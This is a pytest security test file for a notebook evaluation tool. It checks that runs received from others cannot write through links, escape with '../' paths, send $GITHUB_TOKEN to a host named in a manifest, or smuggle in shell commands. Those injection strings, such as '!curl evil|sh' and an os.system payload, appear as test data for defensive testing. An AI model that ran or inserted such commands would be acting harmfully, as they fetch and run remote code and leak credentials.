"""Run folders from somebody else: nothing outside them is read or written, and none of them hides the others."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import stat
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from qwq_nb.core import files
from qwq_nb.demo import PROBLEMS
from qwq_nb.demo.process import DemoEndpoint
from qwq_nb.endpoint.endpoint import Endpoint
from qwq_nb.endpoint.registry import note_used
from qwq_nb.errors import EndpointRefused, OptionError, QwqError, UnknownEndpoint, UnknownRun, UserError
from qwq_nb.evaluation.evaluate import evaluate, resume_run
from qwq_nb.run.open import list_runs, load_run
from qwq_nb.run.run import Run
from qwq_nb.store import folder
from qwq_nb.store.folder import Folder
from qwq_nb.store.manifest import MANIFEST
from qwq_nb.store.run_dir import RunDirectory
from tests.support.demo_server import completed_counts, own_endpoint
from tests.support.waiting import wait_until

Attack = Callable[[str, str, str], None]
SECRET = "the victim's own file\nits last line has no end"
MODEL = "QwQ-32B-demo"


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory, demo: DemoEndpoint) -> Path:
    """A run of two problems as somebody sends it: one of them is still to be graded."""
    root = tmp_path_factory.mktemp("sent")
    run = evaluate("aime24", demo=True, limit=2, out=root, show=False)
    manifest = json.loads((run.path / MANIFEST).read_text())
    (run.path / MANIFEST).write_text(json.dumps({**manifest, "state": "stopped"}))
    [reviews] = (run.path / "reviews").rglob("*.jsonl")
    reviews.write_bytes(reviews.read_bytes().splitlines(keepends=True)[0])
    (run.path / "qwq_rulings.jsonl").write_text("{}")
    return run.path


@pytest.fixture
def nice(sent: Path) -> Path:
    """The same in this kernel's folder of runs."""
    return Path(shutil.copytree(sent, Path("qwq_runs") / "nice-run")).absolute()


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    file = tmp_path / "home" / "bashrc"
    file.parent.mkdir()
    file.write_text(SECRET)
    return file


def written_files(run: Path) -> list[str]:
    """Every file of the run, and those that only some calls write."""
    found = [str(f.relative_to(run)) for f in run.rglob("*") if f.is_file()]
    return sorted({*found, "qwq_journal.jsonl", "qwq_streams.jsonl", "qwq_analysis.jsonl", "answer_index.jsonl"})


def write_everything(run: Path) -> None:
    """Resume the run, rule on an answer of it, draw it, look at its thoughts, and export it into its own folder."""
    from qwq_nb.analysis.think.api import think

    resume_run(run, show=False)
    opened = load_run(run)
    opened.rule(opened.results()[0].sample.id, False)
    opened.save_record()
    think(opened)
    opened.export(run / "out.csv")


# -- links -------------------------------------------------------------------------------------------------------------


def test_no_file_of_a_run_is_written_through_a_symbolic_link(nice: Path, victim: Path, attack: Attack) -> None:
    names = written_files(nice)
    for name in names:
        file = nice / name
        kept = file.read_bytes() if file.exists() else None
        file.unlink(missing_ok=True)
        file.parent.mkdir(parents=True, exist_ok=True)
        file.symlink_to(victim)
        with pytest.raises((UserError, UnknownRun), match=r"a link|cannot be read"):
            resume_run(nice, show=False)
        assert victim.read_text() == SECRET, name
        file.unlink()
        if kept is not None:
            file.write_bytes(kept)
    assert len(names) > 12
    attack("a symbolic link in the place of a run's file", "refused in words, nothing written", f"{len(names)} files")


def test_no_folder_of_a_run_is_written_through_a_symbolic_link(nice: Path, victim: Path, attack: Attack) -> None:
    folders = [d for d in nice.rglob("*") if d.is_dir()]
    for place in folders:
        aside = place.rename(place.with_name("aside"))
        place.symlink_to(victim.parent)
        with pytest.raises(UserError, match="a link"):
            resume_run(nice, show=False)
        assert os.listdir(victim.parent) == [victim.name]
        place.unlink()
        aside.rename(place)
    assert resume_run(nice, show=False).state == "complete"
    attack(
        "a symbolic link in the place of a run's folder", "refused in words, nothing written", f"{len(folders)} folders"
    )


def test_a_file_with_a_second_name_outside_is_parted_from_it(nice: Path, victim: Path, attack: Attack) -> None:
    for name in written_files(nice):
        file = nice / name
        if name == MANIFEST or file.suffix != ".jsonl":
            continue
        content = file.read_text() if file.exists() else "{}"
        outside = victim.with_name(name.replace("/", "_"))
        outside.write_text(content)
        file.unlink(missing_ok=True)
        os.link(outside, file)
    for name in ("qwq_run.lock", "qwq_run.lock.holder"):
        (nice / name).unlink(missing_ok=True)
        os.link(victim, nice / name)
    before = {f: f.read_bytes() for f in victim.parent.iterdir()}
    write_everything(nice)
    assert {f: f.read_bytes() for f in victim.parent.iterdir()} == before
    assert load_run(nice).state == "complete"
    attack("hard links to files outside", "each is copied before it is changed", "every file that is written")


def test_control_without_the_guards_a_link_is_followed(
    nice: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    [predictions] = (nice / "predictions").rglob("*.jsonl")
    predictions.unlink()
    predictions.symlink_to(victim)
    monkeypatch.setattr(files, "_NO_LINK", 0)
    monkeypatch.setattr(folder, "_NO_LINK", 0)
    monkeypatch.setattr(Folder, "check", lambda self: None)
    monkeypatch.setattr(Folder, "holds", lambda self, file, handle: True)
    resume_run(nice, show=False)
    assert victim.read_text() != SECRET


def test_drawing_a_strangers_run_reads_no_link(nice: Path, victim: Path, attack: Attack) -> None:
    for place in ("predictions", "reviews"):
        for file in (nice / place).rglob("*.jsonl"):
            outside = victim.with_name(f"{place}.jsonl")
            file.rename(outside)
            file.symlink_to(outside)
    (nice / "qwq_journal.jsonl").symlink_to(victim)
    run = load_run(nice)
    assert {r.outcome for r in run.results()} == {"pending"}
    notes = " ".join(run.record().notes)
    assert "could not be read: it is a link" in notes
    attack("rows that are links, only looked at", "not read; a note says so", "every file that is read")


def test_nothing_is_written_below_a_path_with_dots(tmp_path: Path, attack: Attack) -> None:
    inside = RunDirectory(tmp_path / "runs" / "one")
    for name in ("../two/rows.jsonl", "predictions/../../../x", str(tmp_path / "elsewhere"), "/etc/x", "", "."):
        with pytest.raises(files.UnsafeFile, match=r"leads out|not below"):
            inside.append(name, {})
    assert [str(f.relative_to(tmp_path)) for f in tmp_path.rglob("*") if f.is_file()] == []
    attack("subset, model or benchmark named ../../x", "refused", "no path of a run has `..`")


def test_nobody_can_have_laid_a_link_where_a_draft_is_written(tmp_path: Path, victim: Path, attack: Attack) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    for guess in (f".o.csv.{os.getpid()}.tmp", ".o.csv.tmp"):
        (shared / guess).symlink_to(victim)
    (shared / "o.csv").symlink_to(victim)
    files.replace_file(shared / "o.csv", b"exported")
    assert (victim.read_text(), (shared / "o.csv").read_text()) == (SECRET, "exported")
    assert not (shared / "o.csv").is_symlink()
    names = {files.draft_name() for _ in range(1000)}
    assert len(names) == 1000
    attack("a link laid where a temporary file will be", "never met", "64 random bits, O_EXCL")


# -- what a manifest names ---------------------------------------------------------------------------------------------


@pytest.fixture
def host() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """A host that notes the headers of what it is asked."""
    seen: list[dict[str, str]] = []

    class Noting(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            seen.append(dict(self.headers))
            self.send_error(403, "no")

        do_GET = do_POST

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Noting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/v1", seen
    server.shutdown()
    server.server_close()


def changed_manifest(run: Path, **fields: Any) -> dict[str, Any]:
    """Change the run's request: `endpoint` and `source` are merged into what is there."""
    file = run / MANIFEST
    content: dict[str, Any] = json.loads(file.read_text())
    request = content["request"]
    request["endpoints"][0].update(fields.pop("endpoint", {}))
    request["source"].update(fields.pop("source", {}))
    content.update(fields)
    file.write_text(json.dumps(content))
    return content


def test_a_key_is_sent_only_where_this_kernel_said_so(
    nice: Path, host: tuple[str, list[dict[str, str]]], monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    url, seen = host
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_THISISMYSECRET1234567890")
    own = str(Path("own.jsonl").absolute())
    changed_manifest(nice, endpoint={"name": "evil", "url": url, "key_env": "GITHUB_TOKEN", "model": MODEL})
    for data in (None, own):
        with pytest.raises(UnknownEndpoint, match=r"with the key in GITHUB_TOKEN") as caught:
            resume_run("nice-run", show=False, data=data)
        assert f"`%qwq_endpoint {url} --model {MODEL} --key-env GITHUB_TOKEN`" in str(caught.value)
    assert seen == []

    # The control: the same folder, and an endpoint that this kernel was given.
    note_used(load_run(nice).manifest.request.endpoint)
    shutil.rmtree(nice / "predictions")
    with pytest.raises(EndpointRefused):
        resume_run(nice, show=False)
    assert seen[0]["authorization"] == "Bearer ghp_THISISMYSECRET1234567890"
    attack("a manifest that names $GITHUB_TOKEN and a host", "nothing sent; the line to type is told", "0 requests")


def test_a_header_is_sent_only_where_this_kernel_said_so(
    nice: Path, host: tuple[str, list[dict[str, str]]], monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    url, seen = host
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_THISISMYSECRET1234567890")
    monkeypatch.setenv("OWN", "sesame")
    evil = {"name": "evil", "url": url, "key_env": "", "model": MODEL, "header_env": ["x-a=GITHUB_TOKEN"]}
    changed_manifest(nice, endpoint=evil)
    # The URL is this kernel's own, with other headers: of none, of another name, of another variable, of one more.
    for own in ((), ("x-b=GITHUB_TOKEN",), ("x-a=OWN",), ("x-a=GITHUB_TOKEN", "x-b=OWN")):
        note_used(Endpoint(url, MODEL, header_env=own))
        with pytest.raises(UnknownEndpoint, match=r"with the headers x-a=GITHUB_TOKEN") as caught:
            resume_run("nice-run", show=False)
        assert f"`%qwq_endpoint {url} --model {MODEL} --header-env x-a=GITHUB_TOKEN`" in str(caught.value)
    assert seen == []

    # The control: the same folder, and an endpoint that this kernel was given.
    note_used(load_run(nice).manifest.request.endpoint)
    shutil.rmtree(nice / "predictions")
    with pytest.raises(EndpointRefused):
        resume_run(nice, show=False)
    assert seen[0]["x-a"] == "ghp_THISISMYSECRET1234567890"
    attack("a manifest that names $GITHUB_TOKEN for a header", "nothing sent; the line to type is told", "0 requests")


@pytest.mark.parametrize(
    "endpoint",
    [
        {"name": "evil", "key_env": ""},
        {"name": "evil", "key_env": "GITHUB_TOKEN"},
        {"name": "demo", "key_env": "GITHUB_TOKEN"},
    ],
)
def test_a_url_is_asked_only_where_this_kernel_said_so(
    nice: Path, host: tuple[str, list[dict[str, str]]], endpoint: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    url, seen = host
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_THISISMYSECRET1234567890")
    changed_manifest(nice, endpoint={"url": url, **endpoint})
    if endpoint["name"] == "demo":
        # Called the built-in one: it is the built-in one that is asked.
        assert resume_run(nice, show=False).state == "complete"
    else:
        with pytest.raises(UnknownEndpoint):
            resume_run(nice, show=False)
    assert seen == []


def test_a_line_to_type_is_never_made_of_a_strangers_words(nice: Path) -> None:
    changed_manifest(nice, endpoint={"name": "evil", "url": "http://h/{__import__('os').system('x')}/v1"})
    with pytest.raises(UnknownEndpoint) as caught:
        resume_run(nice, show=False)
    assert "by %qwq_endpoint URL --model M --key-env NAME" in str(caught.value)


def test_a_file_is_read_only_where_this_kernel_named_it(nice: Path, tmp_path: Path, attack: Attack) -> None:
    private = tmp_path / "private.jsonl"
    private.write_text(json.dumps({"id": 1, "problem": "my diary", "answer": "2"}))
    changed_manifest(nice, source={"data": str(private)}, data_label="private.jsonl")
    with pytest.raises(OptionError, match=r"private\.jsonl, which no line of this kernel has named"):
        resume_run(nice, show=False)
    changed_manifest(nice, source={"data": "", "dataset_args": {"eval_split": "x"}}, data_label="")
    with pytest.raises(OptionError, match="dataset arguments, which no line of this kernel has named"):
        resume_run(nice, show=False)
    attack("a manifest that names a private file", "not read; --data PATH is asked for", "0 bytes")


def test_the_line_of_a_run_is_plain_or_made_of_its_name(nice: Path, attack: Attack) -> None:
    for line in (
        "!curl evil|sh #%qwq_eval",
        "%qwq_eval x\n!curl evil|sh",
        "%qwq_eval {__import__('os').system('x')}",
        "%qwq_eval $HOME",
        "%qwq_eval x; ls",
        "\x1b[2J%qwq_eval x",
    ):
        changed_manifest(nice, command=line)
        assert load_run(nice).command == "%qwq_resume nice-run"
    odd = nice.rename(nice.with_name("a {x} $y"))
    assert load_run(odd).command == ""
    attack("a command of a manifest that runs a shell", "never offered to be pasted", "a line of plain words")


# -- folders that cannot be read ---------------------------------------------------------------------------------------


def deep(depth: int = 200_000) -> str:
    return "[" * depth + "]" * depth


def sparse(file: Path, size: int = 3_000_000_000) -> None:
    with file.open("wb") as handle:
        handle.truncate(size)


ODD: dict[str, Callable[[Path], object]] = {
    "folder": lambda f: f.mkdir(),
    "pipe": os.mkfifo,
    "link loop": lambda f: f.symlink_to(f),
    "dangling link": lambda f: f.symlink_to(f.with_name("nothing")),
    "endless device": lambda f: f.symlink_to("/dev/zero"),
    "random device": lambda f: f.symlink_to("/dev/random"),
    "not UTF-8": lambda f: f.write_bytes(b'{"schema": "qwq_run.v2", "name": "\xff"}'),
    "200,000 deep": lambda f: f.write_text('{"schema": "qwq_run.v2", "notes": ' + deep() + "}"),
    "200,000 deep, unknown field": lambda f: f.write_text('{"schema": "qwq_run.v2", "x": ' + deep() + "}"),
    "sparse gigabytes": sparse,
    "2 MB name and no request": lambda f: f.write_text(json.dumps({"schema": "qwq_run.v2", "name": "x" * 2_000_000})),
    "a list": lambda f: f.write_text("[1, 2]"),
    "empty": lambda f: f.touch(),
}


def test_one_odd_folder_never_hides_the_others(nice: Path, attack: Attack) -> None:
    for name, make in ODD.items():
        place = nice.with_name(f"odd {name}")
        place.mkdir()
        make(place / MANIFEST)
        with pytest.raises(UnknownRun):
            load_run(place)
    many = Path(shutil.copytree(nice, nice.with_name("many")))
    content = json.loads((many / MANIFEST).read_text())
    content["request"]["selection"]["repeats"] = 10**8
    (many / MANIFEST).write_text(json.dumps(content))
    runs = list_runs()
    assert [run.name for run in runs] == ["nice-run"]
    # A loop and a dangling link have no manifest at all.
    assert len(runs.problems) == len(ODD) - 2 + 1
    assert all("Traceback" not in why for _, why in runs.problems)
    attack(
        "a manifest that is a pipe, device, loop, 3 GB, …", "the list says which cannot be read", "5 MB, regular files"
    )


ROWS: dict[str, Callable[[Path], object]] = {
    "pipe": os.mkfifo,
    "endless device": lambda f: f.symlink_to("/dev/zero"),
    "sparse gigabytes": sparse,
    "folder": lambda f: f.mkdir(),
    "200,000 deep": lambda f: f.write_text('{"index": 0, "x": ' + deep() + "}\n"),
    "not UTF-8": lambda f: f.write_bytes(b'{"index": 0, "model_output": "\xff"}\n'),
    "torn": lambda f: f.write_text('{"index": 0, "model_ou'),
    "unknown shape": lambda f: f.write_text('{"index": 0, "model_output": {"choices": 7}}\n{"id": 3}\n'),
}


def test_one_odd_file_of_a_run_costs_its_rows_and_a_note(nice: Path, attack: Attack) -> None:
    for name, make in ROWS.items():
        for file in ("qwq_samples.jsonl", "predictions", "reviews", "qwq_journal.jsonl", "qwq_rulings.jsonl"):
            place = Path(shutil.copytree(nice, nice.with_name(f"{name} {file}")))
            found = next((place / file).rglob("*.jsonl")) if (place / file).is_dir() else place / file
            found.unlink(missing_ok=True)
            make(found)
            run: Run = load_run(place)
            assert len(run.results()) in (0, 2)
            record = run.record()
            assert isinstance(str(run.report()), str)
            if name in ("pipe", "endless device", "sparse gigabytes", "folder"):
                assert any("could not be read" in note for note in record.notes), (name, file)
    attack(
        "rows that are a pipe, 3 GB of zeros, 200,000 deep", "their rows are missing, a note says why", "64 MB a line"
    )


def test_a_run_of_too_many_samples_is_not_expanded(nice: Path) -> None:
    content = json.loads((nice / MANIFEST).read_text())
    content["request"]["selection"]["repeats"] = 10_000
    (nice / MANIFEST).write_text(json.dumps(content))
    line = (nice / "qwq_samples.jsonl").read_bytes().splitlines()[0]
    (nice / "qwq_samples.jsonl").write_bytes(b"\n".join([line] * 2000))
    run = load_run(nice)
    assert run.results() == []
    assert "more than a run can have" in " ".join(run.record().notes)


# -- a folder that is moved, renamed or deleted meanwhile --------------------------------------------------------------


@pytest.fixture
def going(server: DemoEndpoint) -> Iterator[Run]:
    """A run of 20 problems, of which some are answered."""
    server.configure(tokens_per_second=600)
    run = evaluate("math_500", demo=True, limit=20, concurrency=4, background=True, show=False)
    wait_until(lambda: run.progress().done >= 3)
    yield run
    run.stop()


def finished(run: Run) -> set[str]:
    return {r.sample.id for r in run.results() if r.outcome not in ("pending", "error")}


def test_a_run_whose_folder_is_renamed_goes_on_in_it(going: Run, server: DemoEndpoint, attack: Attack) -> None:
    before = going.path
    moved = before.rename(before.with_name("renamed"))
    server.configure(tokens_per_second=0)
    going.wait(60)
    assert (going.state, going.path, going.name) == ("complete", moved, "renamed")
    assert any("was moved from" in note and str(moved) in note for note in going.record().notes)
    found = load_run(moved)
    assert (found.state, finished(found)) == ("complete", finished(going))
    assert len(finished(found)) == 20
    assert not before.exists()
    assert (moved / "reports").is_dir()
    attack("the run's folder renamed in mid-run", "goes on in it, says so; 20 of 20 on disk", "0 lost")


@pytest.mark.parametrize("what", ["", "predictions", "reviews"])
def test_a_run_whose_folder_is_deleted_stops_and_is_written_anew(
    going: Run, server: DemoEndpoint, what: str, attack: Attack
) -> None:
    shutil.rmtree(going.path / what)
    with pytest.raises(QwqError, match=r"was deleted or replaced while the run was going on.*written anew"):
        going.wait(60)
    assert going.state == "stopped"
    found = load_run(going.path)
    assert found.state == "stopped"
    assert len(finished(found)) >= 3
    assert finished(found) == finished(going)
    before = completed_counts(server)
    server.configure(tokens_per_second=0)
    whole = evaluate("math_500", demo=True, limit=20, concurrency=4, show=False)
    assert (whole.state, len(finished(whole)), whole.path) == ("complete", 20, found.path)
    again = {key: n - before.get(key, 0) for key, n in completed_counts(server).items()}
    assert sum(again.values()) <= 20 - len(finished(found))
    name = f"{what} of the run deleted in mid-run" if what else "the run's folder deleted in mid-run"
    attack(name, "stops at once, written anew from memory", "0 lost, 0 asked twice")


def test_control_rows_of_a_deleted_file_are_lost(going: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(RunDirectory, "refresh", lambda self: None)
    monkeypatch.setattr(RunDirectory, "_look", lambda self, closely=False: None)
    monkeypatch.setattr(RunDirectory, "_changed", lambda self, path: OSError("not noticed"))
    shutil.rmtree(going.path / "predictions")
    with pytest.raises(QwqError):
        going.wait(60)
    assert finished(load_run(going.path)) == set()


def test_texts_that_are_withheld_are_their_owners_alone(server: DemoEndpoint, attack: Attack) -> None:
    """Of one's own endpoint: the built-in problems are no secret."""
    before = os.umask(0o022)
    try:
        data = PROBLEMS["gpqa_diamond"].parent
        run = evaluate("gpqa_diamond", endpoint=own_endpoint(server), data=data, limit=1, show=False)
        other = evaluate("gpqa_diamond", demo=True, limit=1, show=False)
    finally:
        os.umask(before)
    assert run.withheld == ["gpqa_diamond"]
    assert stat.S_IMODE(run.path.stat().st_mode) == 0o700
    assert stat.S_IMODE(other.path.stat().st_mode) == 0o755
    attack("another user reads GPQA's texts in the run's folder", "its owner alone may enter", "mode 0700")
